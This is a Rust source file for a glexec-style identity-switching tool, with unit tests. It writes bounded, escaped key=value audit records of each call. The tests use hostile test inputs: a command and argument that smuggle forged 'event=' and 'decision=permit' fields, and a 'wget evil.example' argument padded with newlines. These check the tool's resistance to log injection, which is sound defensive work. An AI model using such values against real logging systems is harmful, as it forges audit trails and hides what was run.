//! The fields of a record, in the order of the catalogue.

use crate::invocation::caller::Caller;
use crate::invocation::command_line::Job;
use crate::invocation::environment::Environment;
use crate::verifier::Judge;
use glexec_core::escape::{quoted, shortened, visible, width};
use glexec_core::field::Field;
use glexec_core::identity::{Identity, Proof, TokenProof};
use glexec_core::reason::{Refusal, Retry};
use glexec_policy::mapping::Mapping;
use glexec_sys::supervise::{Ended, Usage};
use std::ffi::{OsStr, OsString};
use std::os::unix::ffi::OsStrExt;
use std::path::Path;
use std::time::Duration;

/// Longest command, working directory, batch ids, GLEXEC_ID, scope of a token and all else in a record, in bytes.
const MAX_TEXT: usize = 256;
/// Longest list of arguments.
const MAX_ARGUMENTS: usize = 1024;
/// What stands for arguments that are left out.
const MORE: &str = " ...";
/// How many bytes of a cut argument say something.
const WORTH_SHOWING: usize = 32;
/// Longest name of a person, and of their lease.
const MAX_NAME: usize = 512;
/// Longest list of FQANs or groups, and the reason of a refusal.
const MAX_LIST: usize = 1024;

/// The longest value of a field in bytes.
fn longest(field: Field) -> usize {
    match field {
        Field::PilotDn | Field::UserDn | Field::IssuerDn | Field::Lease => MAX_NAME,
        Field::Fqans | Field::TargetGids | Field::Reason => MAX_LIST,
        _ => MAX_TEXT,
    }
}

/// A record: filled in as the call is understood, written once.
#[derive(Debug, Default)]
pub struct Record {
    fields: Vec<(Field, String)>,
}

impl Record {
    /// The record that the call with this id begins with.
    pub fn start(call: &str) -> Self {
        Record::new("start", call)
    }

    /// The record that a lingering call ends with.
    pub fn end(call: &str) -> Self {
        Record::new("end", call)
    }

    fn new(event: &str, call: &str) -> Self {
        let mut record = Record::default();
        record.set(Field::Event, event);
        record.set(Field::Call, call);
        record
    }

    /// The call's id, 16 hexadecimal digits.
    pub fn id() -> Result<String, nix::errno::Errno> {
        glexec_sys::random::<8>().map(|bytes| format!("{:016x}", u64::from_be_bytes(bytes)))
    }

    fn set(&mut self, name: Field, value: impl AsRef<[u8]>) {
        self.put(name, visible(value.as_ref(), longest(name)));
    }

    fn set_some(&mut self, name: Field, value: Option<impl AsRef<[u8]>>) {
        if let Some(value) = value {
            self.set(name, value);
        }
    }

    /// Puts a visible and bounded value in its place, whenever it becomes known.
    fn put(&mut self, name: Field, value: String) {
        let place = self.fields.partition_point(|(other, _)| *other <= name);
        self.fields.insert(place, (name, value));
    }

    fn set_list<'a>(&mut self, name: Field, items: impl Iterator<Item = &'a str>) {
        let list: Vec<_> = items.collect();
        if !list.is_empty() {
            self.set(name, list.join(","));
        }
    }

    /// What is known before anything is read: the process's ids.
    pub fn process(&mut self, uid: u32, gid: u32, pid: i32) {
        self.set(Field::CallerUid, uid.to_string());
        self.set(Field::CallerGid, gid.to_string());
        self.set(Field::CallerPid, pid.to_string());
    }

    /// The caller's account.
    pub fn caller(&mut self, caller: &Caller) {
        self.set(Field::CallerUser, &caller.name);
    }

    /// What the caller wants to run, from where, on whose behalf as it says.
    pub fn wish(&mut self, job: &Job, cwd: Option<&Path>, environment: &Environment) {
        if let Some(payload) = &job.payload {
            self.set(Field::Command, payload.command.as_bytes());
            // Visible and bounded already.
            self.put(Field::Args, arguments(&payload.arguments));
        }
        self.set_some(Field::Cwd, cwd.map(|cwd| cwd.as_os_str().as_bytes()));
        self.set_some(Field::Sandbox, job.sandbox.as_ref().map(|sandbox| sandbox.as_os_str().as_bytes()));
        let batch = environment.batch_ids().join(OsStr::new(","));
        self.set_some(Field::Batch, Some(batch.as_bytes()).filter(|batch| !batch.is_empty()));
        self.set_some(Field::GlexecId, environment.get("GLEXEC_ID").map(OsStr::as_bytes));
    }

    /// Whom the credentials stand for.
    pub fn identities(&mut self, user: &Identity, pilot: Option<&Identity>) {
        self.set_some(Field::PilotDn, pilot.map(|pilot| pilot.subject.as_str()));
        self.set(Field::UserDn, user.subject.as_str());
        self.set(Field::NotAfter, user.not_after.to_string());
        match &user.proof {
            Proof::X509 { issuer, serial, .. } => {
                self.set(Field::Credential, "x509");
                self.set(Field::IssuerDn, issuer.as_str());
                self.set(Field::Serial, serial.as_str());
            }
            Proof::Token(token) => self.token(token),
        }
        self.set_some(Field::Vo, user.vo());
        self.set_list(Field::Fqans, user.fqans.iter().map(|fqan| fqan.as_str()));
    }

    /// Who judged the credentials.
    pub fn judge(&mut self, judge: Judge) {
        self.set(Field::Verifier, judge.name());
    }

    fn token(&mut self, token: &TokenProof) {
        self.set(Field::Credential, "token");
        self.set_some(Field::Jti, token.jti.as_ref());
        self.set(Field::Kid, &token.kid);
        self.set_some(Field::Scope, Some(&token.scope).filter(|scope| !scope.is_empty()));
        self.set(Field::TokenSha256, token.sha256.as_str());
    }

    /// The account that the policy gave.
    pub fn mapping(&mut self, mapping: &Mapping) {
        self.set(Field::TargetUser, &mapping.name);
        self.set(Field::TargetUid, mapping.uid.get().to_string());
        self.set(Field::TargetGid, mapping.gid.get().to_string());
        let groups: Vec<String> = mapping.groups.iter().map(|gid| gid.get().to_string()).collect();
        self.set_list(Field::TargetGids, groups.iter().map(String::as_str));
        self.set_some(Field::Lease, mapping.lease.as_ref());
    }

    /// The decision: run it.
    pub fn permit(&mut self) {
        self.set(Field::Decision, "permit");
    }

    /// The decision: refuse.
    pub fn deny(&mut self, refusal: &Refusal) {
        self.set(Field::Decision, "deny");
        self.set(Field::Code, refusal.reason().code());
        self.set(Field::Reason, refusal.for_log());
        let transient = if refusal.reason().retry() == Retry::MayHelp { "true" } else { "false" };
        self.set(Field::Transient, transient);
    }

    /// The payload's main process.
    pub fn payload(&mut self, pid: i32) {
        self.set(Field::PayloadPid, pid.to_string());
    }

    /// How the payload ended, how many of its processes had to be killed, and what it used: times in seconds, memory in KiB.
    pub fn ended(&mut self, ended: Ended, killed: u64, wall: Duration, usage: &Usage) {
        let seconds = |time: Duration| format!("{:.3}", time.as_secs_f64());
        match ended {
            Ended::Exited(code) => self.set(Field::Status, code.to_string()),
            Ended::Signaled(signal) => self.set(Field::Signal, signal.to_string()),
        }
        self.set(Field::Wall, seconds(wall));
        self.set(Field::UserTime, seconds(usage.user));
        self.set(Field::SysTime, seconds(usage.system));
        self.set(Field::MaxRss, usage.max_rss.to_string());
        self.set(Field::Killed, killed.to_string());
    }

    /// How a call ended that lost its monitor: how is not known, but that nothing is left.
    pub fn lost(&mut self, payload: i32, killed: u64) {
        self.payload(payload);
        self.set(Field::Killed, killed.to_string());
        self.set(Field::Lost, "true");
    }

    /// How the site's epilogue ended, as one word.
    pub fn epilogue(&mut self, word: &str) {
        self.set(Field::Epilogue, word);
    }

    /// Names and visible values in their order.
    pub fn fields(&self) -> &[(Field, String)] {
        &self.fields
    }

    /// The record as one `key=value` line without its end.
    pub fn line(&self) -> String {
        let pairs: Vec<String> = self.fields.iter().map(|(name, value)| format!("{name}={}", quoted(value))).collect();
        pairs.join(" ")
    }
}

/// An argument as a shell would want it: in quotes where it is empty or has blanks, so that lists stay unambiguous.
fn argument(argument: &OsStr) -> String {
    let text = visible(argument.as_bytes(), MAX_ARGUMENTS).replace('\'', "\\x27");
    if text.is_empty() || text.contains(' ') { format!("'{text}'") } else { text }
}

/// Arguments with blanks between, as many as there is room for. Of one that is too long the beginning is kept: nobody
/// hides what is run behind a long argument.
fn arguments(all: &[OsString]) -> String {
    let room = MAX_ARGUMENTS.saturating_sub(MORE.len());
    let mut text = String::new();
    for (number, next) in all.iter().enumerate() {
        let blank = if number == 0 { "" } else { " " };
        let left = room.saturating_sub(width(&text)).saturating_sub(blank.len());
        let next = argument(next);
        let fits = width(&next) <= left;
        if fits || left >= WORTH_SHOWING {
            text.push_str(blank);
            text.push_str(&shortened(next, left));
        }
        if !fits {
            let is_last = number.saturating_add(1) == all.len() && left >= WORTH_SHOWING;
            text.push_str(if is_last { "" } else { MORE });
            break;
        }
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::invocation::command_line::Payload;
    use glexec_core::reason::Reason;

    fn job(payload: Payload) -> Job {
        Job { sandbox: None, payload: Some(payload) }
    }

    #[test]
    fn a_hostile_command_stays_one_line_with_its_own_fields() {
        let mut record = Record::start("0123456789abcdef");
        let payload = Payload {
            command: "/bin/x\nevent=start".into(),
            arguments: vec!["a b".into(), "\" decision=permit".into()],
        };
        let environment = Environment::new(vec![("GLEXEC_ID".into(), "two\nlines".into())]);
        record.wish(&job(payload), Some(Path::new("/tmp")), &environment);
        record.deny(&Refusal::new(Reason::LcasUserban, "banned"));
        let expected = [
            r"event=start call=0123456789abcdef",
            r"decision=deny code=lcas.userban transient=false reason=banned",
            r#"command="/bin/x\x0aevent=start""#,
            r#"args="'a b' '\" decision=permit'""#,
            r#"cwd=/tmp glexec_id="two\x0alines""#,
        ];
        assert_eq!(record.line(), expected.join(" "));
    }

    #[test]
    fn arguments_are_cut_between_two_arguments() {
        let mut record = Record::start("0");
        let arguments = (0..5000).map(|n| n.to_string().into()).collect();
        record.wish(&job(Payload { command: "x".into(), arguments }), None, &Environment::new(Vec::new()));
        let (_, text) = record.fields().iter().find(|(name, _)| *name == Field::Args).unwrap();
        assert!(text.len() <= MAX_ARGUMENTS && text.ends_with(" ..."), "{text}");
    }

    fn args(arguments: &[&str]) -> String {
        arguments_of(arguments.iter().map(|text| (*text).to_owned()).collect())
    }

    fn arguments_of(arguments: Vec<String>) -> String {
        let arguments: Vec<OsString> = arguments.into_iter().map(OsString::from).collect();
        super::arguments(&arguments)
    }

    #[test]
    fn a_long_argument_hides_neither_itself_nor_what_was_before_it() {
        let long = format!("wget evil.example; {}", "\n".repeat(5000));
        let text = args(&["-c", &long]);
        assert!(text.starts_with("-c 'wget evil.example; \\x0a\\x0a") && text.ends_with("\\x0a..."), "{text}");
        assert!(text.len() <= MAX_ARGUMENTS && text.len() > MAX_ARGUMENTS - 20, "{}", text.len());
        let text = args(&["-c", &long, "more"]);
        assert!(text.ends_with("... ...") && text.len() <= MAX_ARGUMENTS, "{text}");
        assert_eq!(args(&["a", "", "b c", "it's"]), "a '' 'b c' it\\x27s");
    }

    #[test]
    fn no_record_is_longer_than_a_syslog_message() {
        let all = "\"".repeat(5000);
        let mut record = Record::start("0123456789abcdef");
        record.process(u32::MAX, u32::MAX, i32::MAX);
        let payload = Payload { command: all.clone().into(), arguments: vec![all.clone().into()] };
        let environment = ["GLEXEC_ID", "PBS_JOBID"].map(|name| (name.into(), all.clone().into()));
        let job = Job { sandbox: Some(all.clone().into()), payload: Some(payload) };
        record.wish(&job, Some(Path::new(&all)), &Environment::new(environment.into()));
        for field in [
            Field::CallerUser,
            Field::PilotDn,
            Field::UserDn,
            Field::IssuerDn,
            Field::Serial,
            Field::Vo,
            Field::Fqans,
            Field::Jti,
            Field::Kid,
            Field::Scope,
        ] {
            record.set(field, &all);
        }
        record.deny(&Refusal::new(Reason::LcmapsPoolExhausted, all));
        assert!(record.line().len() < 8 * 1024 - 256, "{}", record.line().len());
    }
}
